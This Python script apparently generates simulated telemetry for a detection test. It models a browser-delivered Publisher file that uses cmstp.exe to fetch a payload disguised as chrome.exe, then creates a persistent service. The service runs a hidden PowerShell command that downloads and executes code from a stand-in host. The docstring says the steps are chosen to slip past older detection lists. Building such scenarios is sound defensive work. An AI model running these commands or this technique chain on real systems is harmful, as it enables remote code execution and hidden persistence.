"""A Publisher document that a rare browser brought: it has cmstp run what it wrote, which fetches a program under a browser's
name and sets up a service that only runs something else. Each step goes by a name that one of the old lists did not have."""
from scenery import Desktop


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    document, profile = c.home + r"\Downloads\Invoice 0611.pub", c.home + r"\AppData\Local\Temp\kq31.inf"
    bot = c.home + r"\AppData\Roaming\Cache2\chrome.exe"
    desktop.murmur(6)
    browser = c.spawn(desktop.explorer, c.home + r"\AppData\Local\Yandex\YandexBrowser\Application\browser.exe",
                      company="YANDEX LLC", description="Yandex")
    c.exchange(browser, ("198.51.100.20", 443), 49801, [517], [90112])
    c.drop(browser, document, 90112)
    publisher = c.spawn(desktop.explorer, r"C:\Program Files\Microsoft Office\root\Office16\MSPUB.EXE",
                        r'"C:\Program Files\Microsoft Office\root\Office16\MSPUB.EXE" "%s"' % document,
                        company="Microsoft Corporation", description="Microsoft Publisher")
    c.read(publisher, document, 90112)
    c.drop(publisher, profile, 1310)
    cmstp = c.spawn(publisher, system32 + "cmstp.exe", "cmstp.exe /ni /s %s" % profile)
    c.read(cmstp, profile, 1310)
    desktop.resolve()
    c.exchange(cmstp, ("203.0.113.61", 80), 49820, [120], [45000, 45000])
    c.drop(cmstp, bot, 90000)
    run = c.spawn(cmstp, bot, '"%s"' % bot)
    c.net(run, "Connect", ("203.0.113.61", 80), 49825)
    c.net(run, "Send", ("203.0.113.61", 80), 49825, 110)
    for _ in range(4):
        c.net(run, "Receive", ("203.0.113.61", 80), 49825, 16384)
    c.drop(run, c.home + r"\AppData\Roaming\Cache2\vr.dat", 65536)
    c.net(run, "Disconnect", ("203.0.113.61", 80), 49825)
    command = "conhost.exe --headless powershell -w hidden -c iex(irm http://203.0.113.61/u)"
    tool = c.spawn(run, system32 + "sc.exe", 'sc create CacheUpd binPath= "%s" start= auto' % command)
    key = r"HKLM\System\CurrentControlSet\Services\CacheUpd"
    c.key(desktop.services, key, new=True)
    c.set_value(desktop.services, key + r"\ImagePath", "REG_EXPAND_SZ", command)
    c.exit(tool)
    desktop.murmur(4)
